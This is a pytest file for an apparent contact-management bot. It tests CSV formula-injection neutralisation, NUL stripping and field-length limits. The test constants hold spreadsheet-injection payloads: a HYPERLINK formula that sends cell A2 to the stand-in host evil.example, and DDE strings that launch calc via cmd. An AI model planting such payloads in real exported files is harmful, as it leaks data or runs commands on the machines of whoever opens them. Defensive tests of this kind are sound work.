"""Issue 17, points 4, 6 and 7: formula cells, NUL characters and over-long CSV fields.

Every test runs on SQLite and PostgreSQL; the dashboard's upload and download are
exercised through HTTP, the CLI through ``calltime contacts``.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from bot.cli import cli
from bot.csv_safety import neutralise, restore
from bot.directory.contact_rows import MAX_LENGTHS
from bot.directory.contacts_csv import export_contacts, import_contacts
from bot.models import Contact, Message, Project, ProviderUsage, User
from bot.store import ProjectScope
from tests.admin_support import csrf_token, login, seed_project
from tests.factories import make_project, make_user
from tests.pipeline_support import make_app, messages
from tests.twilio_double import AUTH_TOKEN

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
EVIL_NOTES = ["+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)"]
#: Import trims whitespace, so these can only come from an edit, and only export matters.
WHITESPACE_NOTES = ["\t=1+1", "\rcr"]
HEADER = "display_name,phone,notes\n"


@pytest.fixture
def world(db, clock):
    return seed_project(db, clock.now(), "Asha")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _dangerous(cell: str) -> bool:
    number = re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and number is None


def _upload(client, data: str):
    return client.post(
        "/admin/contacts/import",
        data={"csrf_token": csrf_token(client), "file": (io.BytesIO(data.encode()), "c.csv")},
        content_type="multipart/form-data",
    )


@pytest.mark.parametrize(
    "value",
    ["=1+1", "'=1+1", "''@x", "+91 98765", "-", "plain", "'quoted", "+919876543210", "-12.50"],
)
def test_neutralise_and_restore_round_trip(value: str) -> None:
    cell = neutralise(value)
    assert restore(cell) == value
    assert not _dangerous(cell)


# -- point 4: formula cells -----------------------------------------------------------
def _evil_contacts(db, project) -> None:
    rows = [f'"{EVIL_NAME.replace(chr(34), chr(34) * 2)}",+919812300001,"{EVIL_NOTES[0]}"']
    for index, note in enumerate(EVIL_NOTES[1:], start=2):
        quoted = note.replace('"', '""')
        rows.append(f'Donor {index},+9198123000{index:02d},"{quoted}"')
    with db.session() as session:
        report = import_contacts(session, project, HEADER + "\n".join(rows) + "\n", actor="test")
    assert report.imported == len(EVIL_NOTES), report.as_text()


def test_every_export_neutralises_formula_cells_and_round_trips(
    client, world, db, db_url, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with db.session() as session:
        project = session.get(Project, world.project_id)
    _evil_contacts(db, project)
    login(client, world.admin_email)
    dashboard = client.get("/admin/contacts/export.csv").text
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("CALLTIME_INSTANCE_PATH", str(tmp_path / "cli"))
    exported = CliRunner().invoke(cli, ["contacts", "export", "--project", str(project.id)])
    assert exported.exit_code == 0, exported.output
    for text in (dashboard, exported.output):
        cells = [cell for row in _cells(text) for cell in row]
        assert "'" + EVIL_NAME in cells and "+919812300001" in cells  # phones stay numbers
        assert not [cell for cell in cells if _dangerous(cell)]
    # Export → import changes nothing; the next export is the same file.
    with db.session() as session:
        report = import_contacts(session, project, dashboard, actor="test")
        assert report.updated == 0 and report.skipped == 0, report.as_text()
        names = set(session.scalars(select(Contact.display_name)))
        notes = set(session.scalars(select(Contact.notes)))
    assert EVIL_NAME in names and set(EVIL_NOTES) <= notes
    with db.session() as session:
        assert export_contacts(session, project) == dashboard
        edited = session.scalars(select(Contact).where(Contact.project_id == project.id)).all()
        for contact, note in zip(edited, WHITESPACE_NOTES, strict=False):
            contact.notes = note
    cells = [cell for row in _cells(client.get("/admin/contacts/export.csv").text) for cell in row]
    assert {"'" + note for note in WHITESPACE_NOTES} <= set(cells)
    assert not [cell for cell in cells if _dangerous(cell)]


def test_usage_csv_and_import_report_neutralise_formula_cells(
    client, world, db, clock, tmp_path: Path, db_url, monkeypatch
) -> None:
    with db.session() as session:
        session.get(User, world.operator_id).full_name = "=cmd|' /C calc'!A0"
        ProjectScope(session, world.project_id).insert(
            ProviderUsage(
                provider="anthropic",
                model="@evil-model",
                prompt_tokens=1,
                completion_tokens=1,
                total_tokens=2,
                user_id=world.operator_id,
                created_at=clock.now() - timedelta(minutes=1),
            )
        )
    login(client, world.admin_email)
    usage = client.get("/admin/usage.csv").text
    cells = [cell for row in _cells(usage) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'@evil-model" in cells
    assert not [cell for cell in cells if _dangerous(cell)]

    source = tmp_path / "in.csv"
    source.write_text(HEADER + f'"{EVIL_NAME.replace(chr(34), chr(34) * 2)}",12345,\n')
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("CALLTIME_INSTANCE_PATH", str(tmp_path / "cli"))
    report_file = tmp_path / "report.csv"
    args = ["contacts", "import", str(source), "-p", str(world.project_id)]
    result = CliRunner().invoke(cli, [*args, "--report", str(report_file)])
    assert result.exit_code == 0, result.output
    cells = [cell for row in _cells(report_file.read_text()) for cell in row]
    assert "'" + EVIL_NAME in cells and not [cell for cell in cells if _dangerous(cell)]


# -- point 6: NUL characters ----------------------------------------------------------
def test_a_signed_webhook_with_nul_is_stored_without_it(db_url, tmp_path, clock) -> None:
    from twilio.request_validator import RequestValidator

    base = "https://calltime.example.org"
    app = make_app(db_url, tmp_path, clock, twilio_auth_token=AUTH_TOKEN, public_base_url=base)
    db = app.extensions["calltime"].db
    project = make_project(db)
    user = make_user(db, project)
    form = {
        "MessageSid": "SM" + "0" * 32,
        "From": f"whatsapp:{user.phone}",
        "To": f"whatsapp:{project.whatsapp_number}",
        "Body": "spoke to Anita\x00, pledged 5k",
        "NumMedia": "0",
        "ProfileName": "Pri\x00ya",
    }
    signature = RequestValidator(AUTH_TOKEN).compute_signature(base + "/whatsapp/inbound", form)
    answer = app.test_client().post(
        "/whatsapp/inbound", data=form, headers={"X-Twilio-Signature": signature}, base_url=base
    )
    assert answer.status_code == 200
    [stored] = messages(db, "inbound")
    assert (stored.body, stored.profile_name) == ("spoke to Anita, pledged 5k", "Priya")
    db.dispose()


def test_csv_with_nul_imports_every_good_row_and_names_the_line(client, world, db) -> None:
    data = HEADER + "Good One,+919812300101,\nNul\x00 Name,+919812300102,a\x00b\nGood Two,,\n"
    login(client, world.admin_email)
    page = _upload(client, data)
    assert page.status_code == 200
    assert "line 3: removed NUL characters" in page.text and "<b>3</b> imported" in page.text
    with db.session() as session:
        stored = session.scalar(select(Contact).where(Contact.display_name == "Nul Name"))
        assert stored is not None and stored.notes == "ab"


# -- point 7: over-long fields --------------------------------------------------------
def test_over_long_fields_skip_their_line_with_a_clear_reason(
    client, world, db, db_url, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    huge = "x" * 140_000
    long_notes = "n" * (MAX_LENGTHS["notes"] + 1)
    long_name = "N" * (MAX_LENGTHS["display_name"] + 1)
    data = (
        HEADER
        + f"Before,+919812300201,\nHuge,,{huge}\nLong Notes,,{long_notes}\n{long_name},,\n"
        + "After,+919812300202,\n"
    )
    source = tmp_path / "long.csv"
    source.write_text(data)
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("CALLTIME_INSTANCE_PATH", str(tmp_path / "cli"))
    result = CliRunner().invoke(
        cli, ["contacts", "import", str(source), "-p", str(world.project_id)]
    )
    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
    assert "line 3: skipped – a field is longer than 131,072 characters" in result.output
    assert "line 4: skipped – notes is 4,001 characters long; the most is 4,000" in result.output
    assert "line 5: skipped – display_name is 201 characters long; the most is 200" in result.output
    assert "2 imported" in result.output
    login(client, world.admin_email)
    page = _upload(client, data)
    assert page.status_code == 200 and "a field is longer than 131,072 characters" in page.text
    with db.session() as session:
        names = set(session.scalars(select(Contact.display_name)))
    assert {"Before", "After"} <= names and "Huge" not in names


def test_messages_keep_no_nul_through_any_orm_write(db, world) -> None:
    with db.session() as session:
        row = ProjectScope(session, world.project_id).insert(
            Message(
                direction="inbound",
                from_number="+919800000009",
                to_number="+14155238886",
                body="a\x00b",
                media_json=[{"url": "u\x00"}],
                status="done",
            )
        )
        row_id = row.id
    with db.session() as session:
        stored = session.get(Message, row_id)
        assert (stored.body, stored.media_json) == ("ab", [{"url": "u"}])
